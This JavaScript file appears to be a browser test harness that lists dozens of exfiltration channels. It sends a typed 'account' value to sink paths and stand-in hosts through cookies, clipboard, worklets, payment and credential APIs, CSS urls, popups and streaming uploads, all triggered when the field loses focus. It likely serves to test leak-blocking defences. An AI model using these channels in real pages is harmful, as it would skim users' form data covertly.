// Many ways to send at once: each sends the account number, or what is written down with it, to /sink/<its name>.
// With ?only=… in the address those that are named alone.
const ELSEWHERE = "https://elsewhere.test";
const to = (name, value) => `/sink/${name}?value=${value}`;
const room = document.getElementById("room");
const add = (html) => room.insertAdjacentHTML("beforeend", html);
const anchor = (href, more = {}) => Object.assign(document.createElement("a"), { href, ...more });
const link = (rel, href, more = {}) => document.head.append(Object.assign(document.createElement("link"), { rel, href, ...more }));
const press = (href, how) => {
  const one = anchor(href, { textContent: "x" });
  room.append(one);
  one.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true, ...how }));
};
const APART_MS = 50;  // of several downloads at once the net sees the first
const stream = () => new ReadableStream({ start(feed) { globalThis.feed = feed; feed.enqueue(new TextEncoder().encode("begun")); } });
const upload = (url, body) => fetch(url, { method: "POST", body, duplex: "half" }).catch(() => 0);
const total = { total: { label: "x", amount: { currency: "USD", value: "1" } } };

const CHANNELS = {
  "clipboard": (value) => navigator.clipboard.writeText(value).then(() => fetch("/sink/clipboard")),
  "clipboard-item": (value) => navigator.clipboard
    .write([new ClipboardItem({ "text/plain": new Blob([value], { type: "text/plain" }) })])
    .then(() => fetch("/sink/clipboard-item")),
  "redirected": (value) => { document.cookie = `draft=${value}; path=/sink/redirected`; if (!wanted.includes("redirected-image")) fetch("/lookup/typed"); },
  "redirected-image": (value) => { document.cookie = `draft=${value}; path=/sink/redirected-image`; fetch("/lookup/typed"); },
  "media-continued": (value) => { document.cookie = `draft=${value}; path=/media/media-continued`; },
  "download": (value) => anchor(to("download", value), { download: "" }).click(),
  "fetch-later": (value) => fetchLater(to("fetch-later", value), { activateAfter: 0 }),
  "audio-worklet": (value) => new AudioContext().audioWorklet.addModule(to("audio-worklet", value)),
  "audio-worklet-blob": (value) => {
    const text = `import "https://portal.example${to("audio-worklet-blob", value)}"`;
    return new AudioContext().audioWorklet.addModule(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
  },
  "paint-worklet": (value) => CSS.paintWorklet.addModule(to("paint-worklet", value)),
  "payment": (value) => new PaymentRequest([{ supportedMethods: ELSEWHERE + to("payment", value) }], total),
  "payment-asked": (value) => new PaymentRequest([{ supportedMethods: ELSEWHERE + to("payment-asked", value) }], total).canMakePayment(),
  "sign-in-elsewhere": (value) => navigator.credentials.get({
    identity: { providers: [{ configURL: ELSEWHERE + to("sign-in-elsewhere", value), clientId: "1" }] },
  }),
  "reports": (value) => { new Image().src = `/nothing.png?value=${value}`; },
  "header-name": (value) => fetch("/sink/header-name", { headers: { [`x-${value}`]: "1" } }),
  "header-name-and-dashes": (value) => fetch("/sink/header-name-and-dashes", { headers: { [`x-${[...value].join("-")}`]: "1" } }),
  "download-with-cookie": (value) => {
    document.cookie = `draft=${value}; path=/sink/download-with-cookie`;
    anchor("/sink/download-with-cookie", { download: "" }).click();
  },
  "method": (value) => fetch("/sink/method", { method: `M${value}` }),
  "cookie-name": (value) => {
    document.cookie = `d${value}=1; path=/sink/cookie-name`;
    return fetch("/sink/cookie-name");
  },
  "large-header": (value) => fetch("/sink/large-header", { headers: { "x-more": "x".repeat(30000) + value } }),
  "socket-as-stream": (value) => { new WebSocketStream(`wss://portal.example${to("socket-as-stream", value)}`); },
  "shared-worker-address": (value) => { new SharedWorker(to("shared-worker-address", value)); },
  "module-preload": (value) => link("modulepreload", to("module-preload", value)),
  "preload": (value) => link("preload", to("preload", value), { as: "fetch" }),
  "dictionary": (value) => link("compression-dictionary", to("dictionary", value)),
  "stylesheet": (value) => link("stylesheet", to("stylesheet", value)),
  "object": (value) => add(`<object data="${to("object", value)}"></object>`),
  "embed": (value) => add(`<embed src="${to("embed", value)}">`),
  "svg-use": (value) => add(`<svg><use href="${to("svg-use", value)}#a"/></svg>`),
  "svg-filter": (value) => add(`<p style="filter: url(${to("svg-filter", value)}#a)">x</p>`),
  "cursor": (value) => add(`<p style="cursor: url(${to("cursor", value)}), auto">x</p>`),
  "mask": (value) => add(`<p style="mask-image: url(${to("mask", value)})">x</p>`),
  "image-set": (value) => add(`<p style="background: image-set(url(${to("image-set", value)}) 1x); height: 9px">x</p>`),
  "font": (value) => new FontFace("x", `url(${to("font", value)})`).load(),
  "poster": (value) => add(`<video poster="${to("poster", value)}"></video>`),
  "webauthn": (value) => navigator.credentials.get({
    publicKey: { challenge: new Uint8Array(16), rpId: `a${value}.elsewhere.test` },
  }),
  "press-with-control": (value) => press(to("press-with-control", value), { ctrlKey: true }),
  "press-with-shift": (value) => press(to("press-with-shift", value), { shiftKey: true }),
  "press-with-both": (value) => press(to("press-with-both", value), { ctrlKey: true, shiftKey: true }),
  "press-in-the-middle": (value) => press(to("press-in-the-middle", value), { button: 1 }),
  "press-with-cookie": (value) => {
    document.cookie = `draft=${value}; path=/sink/press-with-cookie`;
    press("/sink/press-with-cookie", { ctrlKey: true });
  },
  "link-to-new-tab": (value) => anchor(to("link-to-new-tab", value), { target: "_blank", rel: "noopener" }).click(),
  "open-noopener": (value) => open(to("open-noopener", value), "_blank", "noopener"),
  "open-popup": (value) => open(ELSEWHERE + to("open-popup", value), "", "popup,width=200,height=200"),
  "upload-fed-later": (value) => feed.enqueue(new TextEncoder().encode(value)),
  "upload-fed-later-in-worker": (value) => uploader.postMessage(value),
  "large-body": (value) => fetch("/sink/large-body", { method: "POST", body: "x".repeat(20e6) + value }),
};

const only = new URLSearchParams(location.search).get("only");
const wanted = only === null ? Object.keys(CHANNELS) : only.split(",");

// Begun before anything is typed: an answer that leads elsewhere, later; a film of which each answer is cut off, so that the
// browser asks for the rest; and uploads that are fed later.
if (wanted.includes("redirected")) fetch("/until-typed/redirected");
if (wanted.includes("media-continued")) {
  globalThis.film = Object.assign(new Audio("/media/media-continued"), { muted: true, loop: true });
  film.play().catch(() => 0);
}
if (wanted.includes("redirected-image")) new Image().src = "/until-typed/redirected-image";
const streams = "https://streams.test/upload/";
if (wanted.includes("upload-fed-later")) upload(`${streams}upload-fed-later`, stream());
const uploader = new Worker(URL.createObjectURL(new Blob([`
  const stream = ${stream}, upload = ${upload};
  if (${wanted.includes("upload-fed-later-in-worker")}) upload("${streams}upload-fed-later-in-worker", stream());
  onmessage = (event) => feed.enqueue(new TextEncoder().encode(event.data));
`], { type: "text/javascript" })));

addEventListener("focusout", (event) => {
  if (event.target.name !== "account") return;
  const value = event.target.value;
  wanted.forEach((name, n) => setTimeout(() => {
    try {
      Promise.resolve(CHANNELS[name](value)).catch(() => 0);
    } catch (error) {
      console.log(name, error);  // the browser does not have it
    }
  }, n * APART_MS));
});
